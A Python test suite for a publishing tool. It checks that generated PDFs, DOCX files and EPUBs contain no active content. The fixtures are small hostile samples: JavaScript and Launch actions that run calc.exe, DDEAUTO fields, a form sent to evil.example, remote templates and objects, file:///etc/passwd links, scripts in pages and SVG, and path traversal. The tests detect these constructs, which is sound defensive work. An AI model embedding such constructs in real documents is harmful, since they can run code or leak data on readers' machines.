"""A PDF, a DOCX and an EPUB hold what readers see and nothing that runs, opens or fetches."""

import io
from zipfile import ZipFile

import docx
import pikepdf
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from pikepdf import Array, Dictionary, Name, String

from publishing.outputs import books, documents


def pdf_with(change, *, has_fields=False):
    """Return what is said of a PDF of one page after ``change(pdf, page)``."""
    pdf, saved = pikepdf.new(), io.BytesIO()
    page = pdf.add_blank_page()
    change(pdf, page.obj)
    pdf.save(saved)
    return [str(fault) for fault in documents.pdf_faults(saved.getvalue(), has_fields=has_fields)]


def link(**action):
    """Return what puts a link with this action on the page."""

    def change(pdf, page):
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        page.Annots = Array([pdf.make_indirect(note)])

    return change


def root(**entries):
    """Return what puts these entries into the catalogue of the document."""
    return lambda pdf, _page: [setattr(pdf.Root, name, value) for name, value in entries.items()]


def note(kind):
    """Return what puts a note of a kind on the page."""
    return lambda _pdf, page: setattr(page, 'Annots', Array([Dictionary(Subtype=Name(kind), Rect=Array([0, 0, 9, 9]))]))


def uri(address):
    """Return what puts a link to an address on the page."""
    return link(S=Name.URI, URI=String(address))


SCRIPT = Dictionary(S=Name.JavaScript, JS=String('app.alert(1)'))
PDFS = {
    'script on opening': (root(OpenAction=SCRIPT), 'when it is opened'),
    'script by name': (root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String('a'), SCRIPT])))), 'scripts'),
    'script in a stream': (lambda pdf, _page: setattr(pdf.Root, 'X', Dictionary(JS=pdf.make_stream(b'1'))), 'script'),
    'script of a link': (link(S=Name.JavaScript, JS=String('1')), 'script'),
    'script behind a link': (link(S=Name.GoTo, D=Array([]), Next=SCRIPT), 'script'),
    'action of the document': (root(AA=Dictionary(WC=SCRIPT)), 'nobody asks'),
    'action of the page': (lambda _pdf, page: setattr(page, 'AA', Dictionary(O=SCRIPT)), 'nobody asks'),
    'program': (link(S=Name.Launch, F=String('calc.exe')), 'Launch'),
    'program on opening': (root(OpenAction=Dictionary(S=Name.Launch, F=String('x'))), 'when it is opened'),
    'other file': (link(S=Name.GoToR, F=String('x.pdf')), 'GoToR'),
    'attached file of a link': (link(S=Name.GoToE), 'GoToE'),
    'form that is sent': (link(S=Name.SubmitForm, F=String('https://evil.example')), 'SubmitForm'),
    'data that are taken': (link(S=Name.ImportData), 'ImportData'),
    'film': (link(S=Name.Rendition), 'Rendition'),
    'attached file': (root(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))), 'attached files'),
    'file of the page': (note('/FileAttachment'), 'FileAttachment'),
    'something that plays': (note('/RichMedia'), 'RichMedia'),
    'form': (root(AcroForm=Dictionary(Fields=Array([]))), 'has a form'),
    'address that runs': (uri('javascript:app.alert(1)'), 'leads to'),
    'address of the machine': (uri('file:///etc/passwd'), 'leads to'),
    'address of data': (uri('data:text/html,x'), 'leads to'),
    'address that hides': (uri(' java\tscript:1'), 'leads to'),
    'address of nowhere': (uri('page.html'), 'leads to'),
}


@pytest.mark.parametrize('name', PDFS)
def test_a_pdf_does_nothing(name):
    change, says = PDFS[name]
    assert says in ' '.join(pdf_with(change))


@pytest.mark.parametrize(
    'change',
    [
        root(OpenAction=Array([0, Name.Fit])),
        root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        link(S=Name.GoTo, D=String('a')),
        *map(uri, ('https://example.org/a?b=c:d', 'http://example.org', 'mailto:a@example.org')),
        # A mark in the structure of a text has the same key as an action.
        root(StructTreeRoot=Dictionary(K=Dictionary(S=Name.Link), URI=Dictionary())),
    ],
)
def test_a_pdf_shows_pages_and_leads_to_the_web(change):
    assert pdf_with(change) == []


def formula(text, kind='/application/mathml+xml'):
    """Return what attaches a file, as a formula has its MathML (``publishing.pdf.tags.structure2``)."""

    def change(pdf, _page):
        stream = pdf.make_stream(text.encode(), Subtype=Name(kind))
        file = pdf.make_indirect(Dictionary(F=String('f.mml'), EF=Dictionary(F=stream, UF=stream)))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String('f.mml'), file])))

    return change


MATH = '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>'


def test_formulas_have_mathml():
    assert pdf_with(formula(MATH)) == []


@pytest.mark.parametrize(
    'change',
    [
        formula(MATH, '/application/pdf'),
        formula(MATH.replace('mi>', 'script>')),
        formula(MATH.replace('<mi', '<mi href="https://example.org"')),
        formula(MATH.replace('<mi', '<mi onclick="x()"')),
        formula('x = 1 < 2 <'),
        formula('MZ: a program'),
        formula(''),
    ],
)
def test_no_other_file_is_attached(change):
    assert 'an attached file' in ' '.join(pdf_with(change))


def test_only_worksheets_have_fields():
    form = root(AcroForm=Dictionary(Fields=Array([])))
    assert pdf_with(form, has_fields=True) == []
    scripted = root(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=SCRIPT))])))
    assert 'nobody asks' in ' '.join(pdf_with(scripted, has_fields=True))


def test_what_is_no_pdf_is_named():
    [fault] = documents.pdf_faults(b'%PDF-1.7 no', has_fields=False)
    assert 'cannot be read' in str(fault)


# DOCX


def docx_with(change=lambda document: None, **parts):
    """Return what is said of a DOCX after ``change(document)``, and with these files in it."""
    document, saved = docx.Document(), io.BytesIO()
    change(document)
    for key, relation in list(document.part.package.rels.items()):
        if relation.reltype == RELATIONSHIP_TYPE.THUMBNAIL:
            del document.part.package.rels[key]
    document.save(saved)
    with ZipFile(saved, 'a') as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return [str(fault) for fault in documents.docx_faults(saved.getvalue())]


def relation(address, kind=RELATIONSHIP_TYPE.HYPERLINK):
    """Return what gives a document a relation to an address."""
    return lambda document: document.part.relate_to(address, kind, is_external=True)


def element(name, text='', **attributes):
    """Return what puts an element of Word into a paragraph."""

    def change(document):
        from docx.oxml import OxmlElement
        from docx.oxml.ns import qn

        made = OxmlElement(name)
        made.text = text
        for key, value in attributes.items():
            made.set(qn(f'w:{key}'), value)
        document.add_paragraph()._p.append(made)

    return change


HYPER = RELATIONSHIP_TYPE.HYPERLINK
DOCUMENTS = {
    'template from elsewhere': (
        relation('https://evil.example/x.dotm', HYPER.replace('hyperlink', 'attachedTemplate')),
        'x.dotm',
    ),
    'picture from elsewhere': (relation('https://evil.example/x.png', RELATIONSHIP_TYPE.IMAGE), 'x.png'),
    'object from elsewhere': (
        relation('https://evil.example/x', HYPER.replace('hyperlink', 'oleObject')),
        'fetched or run',
    ),
    'frame': (relation('https://evil.example/x', HYPER.replace('hyperlink', 'frame')), 'fetched or run'),
    'link to a program': (relation('file:///C:/x.exe'), 'x.exe'),
    'link that runs': (relation('javascript:alert(1)'), 'javascript'),
    'link to a share': (relation('\\\\evil.example\\x'), 'evil.example'),
    'field that starts a program': (element('w:instrText', ' DDEAUTO c:\\\\x "calc" '), 'DDEAUTO'),
    'field that fetches': (element('w:fldSimple', instr='INCLUDEPICTURE "https://evil.example/x"'), 'INCLUDEPICTURE'),
    'object': (element('w:object'), '<object>'),
    'chunk of another format': (element('w:altChunk'), '<altChunk>'),
}


@pytest.mark.parametrize('name', DOCUMENTS)
def test_a_docx_does_nothing(name):
    change, says = DOCUMENTS[name]
    assert says in ' '.join(docx_with(change))


@pytest.mark.parametrize(
    ('name', 'text', 'says'),
    [
        ('word/vbaProject.bin', '', 'vbaProject'),
        ('word/embeddings/a.xlsx', '', 'embeddings'),
        ('../x.xml', '<a/>', '../x.xml'),
        ('word/a.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'entities'),
        ('word/a.xml', '<a', 'well-formed'),
    ],
)
def test_a_docx_holds_text_and_pictures(name, text, says):
    assert says in ' '.join(docx_with(**{name: text}))


@pytest.mark.parametrize(
    'change',
    [lambda document: document.add_heading('A'), relation('https://example.org'), element('w:instrText', ' PAGE ')],
)
def test_a_docx_may_have_links_and_numbers(change):
    assert docx_with(change) == []


# EPUB

OPF = '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item href="{}" properties="{}"/></manifest></package>'
PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>a</title></head><body>{}</body></html>'
BOOK = {
    'mimetype': 'application/epub+zip',
    'META-INF/container.xml': '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="content.opf"/></rootfiles></container>',
    'content.opf': OPF.format('a.xhtml', 'svg'),
    'toc.ncx': '<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><content src="a.xhtml#b"/></ncx>',
    'a.xhtml': PAGE.format('<p>a</p>'),
    'a.css': 'p { src: url("fonts/a.ttf") }',
    'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
    'fonts/a.ttf': '',
}
BOOKS = {
    'script in a page': ('a.xhtml', PAGE.format('<script>alert(1)</script>'), '<script>'),
    'page that is HTML': ('a.xhtml', '<p>a<br>', 'well-formed'),
    'script in a drawing': ('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', '<script>'),
    'style from elsewhere': ('a.css', '@import "https://evil.example/x.css";', 'fetched'),
    'script as a file': ('a.js', 'alert(1)', 'no page needs'),
    'file of a kind': ('a.swf', '', 'no page needs'),
    'page from elsewhere': ('content.opf', OPF.format('https://evil.example/x', ''), 'evil.example'),
    'page that is missing': ('content.opf', OPF.format('b.xhtml', ''), 'b.xhtml'),
    'page above': ('content.opf', OPF.format('../../etc/passwd', ''), 'passwd'),
    'page that runs': ('content.opf', OPF.format('a.xhtml', 'svg scripted'), 'scripted'),
    'page that fetches': ('content.opf', OPF.format('a.xhtml', 'remote-resources'), 'remote-resources'),
    'contents that lead away': ('toc.ncx', BOOK['toc.ncx'].replace('a.xhtml', 'javascript:alert(1)'), 'javascript'),
    'list with entities': ('toc.ncx', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'entities'),
    'name above': ('../a.xhtml', BOOK['a.xhtml'], 'leaves the book'),
    'rights of another': ('META-INF/rights.xml', '<a/>', 'no page needs'),
}


def said_of_book(**changed):
    saved = io.BytesIO()
    with ZipFile(saved, 'w') as archive:
        for name, text in (BOOK | changed).items():
            archive.writestr(name, text)
    return [f'{name}: {fault}' for name, fault in books.faults(saved.getvalue())]


def test_a_plain_book_is_fine():
    assert said_of_book() == []


@pytest.mark.parametrize('name', BOOKS)
def test_a_book_does_nothing(name):
    file, text, says = BOOKS[name]
    said = said_of_book(**{file: text})
    assert [one for one in said if one.startswith(f'{file}: ') and says in one]


@pytest.mark.parametrize('read', [books.faults, documents.docx_faults])
def test_what_is_no_archive_is_named(read):
    [fault] = read(b'PK')
    assert 'cannot be read' in str(fault[1] if isinstance(fault, tuple) else fault)
